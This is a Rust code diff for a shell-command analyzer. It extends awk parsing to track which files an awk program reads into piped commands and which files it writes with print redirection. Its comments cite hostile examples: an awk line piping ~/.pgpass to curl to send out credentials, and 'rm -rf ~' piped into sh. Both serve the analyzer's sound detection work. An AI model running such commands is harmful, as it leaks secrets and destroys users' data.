@@ -1688,8 +1688,40 @@ impl Walker {
                 self.parse_option_code(&line, depth + 1, &layers);
             }
         }
-        for line in awk_pipe_code(&program) {
-            self.parse_option_code(&line, depth + 1, &layers);
+        // The files awk reads (`awk PROG FILE...`; `var=value` operands are assignments): what
+        // it prints into a command comes from them (`awk '{ print | "curl -d @- URL" }'
+        // ~/.pgpass` sends the file), as `cat FILE | CMD` does.
+        let inputs: Option<Vec<&String>> = rest[i + 1..]
+            .iter()
+            .zip(&rest_dyn[i + 1..])
+            .filter(|(w, _)| !awk_assignment(w))
+            .map(|(w, d)| (!*d && w.chars().all(awk_plain_path_char)).then_some(w))
+            .collect();
+        for (line, fed) in awk_pipe_code(&program) {
+            match &inputs {
+                Some(files) if fed && !files.is_empty() => {
+                    let files: Vec<&str> = files.iter().map(|f| f.as_str()).collect();
+                    let code = format!("cat {} | {line}", files.join(" "));
+                    self.parse_option_code(&code, depth + 1, &layers);
+                }
+                _ => self.parse_option_code(&line, depth + 1, &layers),
+            }
+        }
+        // `print > "FILE"` and `print >> "FILE"` write FILE (`>>` appends).
+        let mut c = ctx.clone();
+        c.layers.push("awk print >".into());
+        c.findings = Vec::new();
+        c.redirects = Vec::new();
+        c.appends = Vec::new();
+        c.stdin_text = None;
+        for (file, append) in awk_output_files(&program) {
+            if append {
+                self.push_write(file, &c);
+            } else {
+                let argv = vec!["tee".to_string(), file];
+                let text = argv.join(" ");
+                self.push(argv, text, &c, Vec::new());
+            }
         }
     }
 }
@@ -1852,10 +1884,71 @@ fn awk_join_literals(program: &str) -> String {
     String::from_utf8(out).unwrap_or_else(|_| program.to_string())
 }
 
+/// Whether an awk operand is an assignment (`var=value`), not a file to read.
+fn awk_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        !name.is_empty()
+            && !name.starts_with(|c: char| c.is_ascii_digit())
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+/// A character a file operand may hold to be written back on a shell line as it is.
+fn awk_plain_path_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '~' | '$' | '{' | '}' | '*')
+}
+
+/// The files an awk program's `print`/`printf` statements redirect their output to (`print >
+/// "FILE"`, `print >> "FILE"`: true when appending), where FILE is a literal. A `>` inside
+/// parentheses or outside a print statement is a comparison.
+pub(super) fn awk_output_files(program: &str) -> Vec<(String, bool)> {
+    let bytes = program.as_bytes();
+    let mut out = Vec::new();
+    let (mut in_print, mut parens, mut i) = (false, 0usize, 0usize);
+    while i < bytes.len() {
+        match bytes[i] {
+            b'"' => {
+                // Skip the literal.
+                i += 1;
+                while i < bytes.len() && bytes[i] != b'"' {
+                    i += 1 + usize::from(bytes[i] == b'\\');
+                }
+            }
+            b';' | b'{' | b'}' | b'\n' => {
+                in_print = false;
+                parens = 0;
+            }
+            b'(' => parens += 1,
+            b')' => parens = parens.saturating_sub(1),
+            b'p' if program[i..].starts_with("print")
+                && (i == 0 || !(bytes[i - 1].is_ascii_alphanumeric() || bytes[i - 1] == b'_')) =>
+            {
+                in_print = true;
+            }
+            b'>' if in_print && parens == 0 => {
+                let append = bytes.get(i + 1) == Some(&b'>');
+                let rest = program[i + 1 + usize::from(append)..].trim_start();
+                if let Some(body) = rest.strip_prefix('"')
+                    && let Some(end) = body.find('"')
+                    && !body[..end].contains('\\')
+                    && !body[..end].is_empty()
+                {
+                    out.push((body[..end].to_string(), append));
+                }
+                i += usize::from(append);
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    out
+}
+
 /// The shell code of an awk program's pipes: the literal command of `print X | "CMD"` and
 /// `"CMD" | getline`, which awk runs with `sh -c`, and, when CMD is a shell reading its
-/// input, the literal text printed into it (`print "rm -rf ~" | "sh"`).
-fn awk_pipe_code(program: &str) -> Vec<String> {
+/// input, the literal text printed into it (`print "rm -rf ~" | "sh"`). Each with whether
+/// what the program prints is the command's input (`print X | "CMD"`).
+fn awk_pipe_code(program: &str) -> Vec<(String, bool)> {
     // The string literals of the program, with their byte spans.
     let bytes = program.as_bytes();
     let mut literals: Vec<(usize, usize, String)> = Vec::new();
@@ -1891,10 +1984,11 @@ fn awk_pipe_code(program: &str) -> Vec<String> {
             && !text
                 .split_whitespace()
                 .any(|w| w.starts_with('-') && w.ends_with('c'));
-        if (piped_into && !reads_code)
-            || after.starts_with('|') && after[1..].trim_start().starts_with("getline")
-        {
-            out.push(text.clone());
+        if piped_into && !reads_code {
+            // What the statement prints is the command's input.
+            out.push((text.clone(), true));
+        } else if after.starts_with('|') && after[1..].trim_start().starts_with("getline") {
+            out.push((text.clone(), false));
         }
         if piped_into && reads_code {
             // The statement's printed literals, back to `print`/`printf`.
@@ -1903,7 +1997,7 @@ fn awk_pipe_code(program: &str) -> Vec<String> {
                 literals[..k]
                     .iter()
                     .filter(|(s, _, _)| *s >= statement_start)
-                    .map(|(_, _, t)| t.clone()),
+                    .map(|(_, _, t)| (t.clone(), false)),
             );
         }
     }
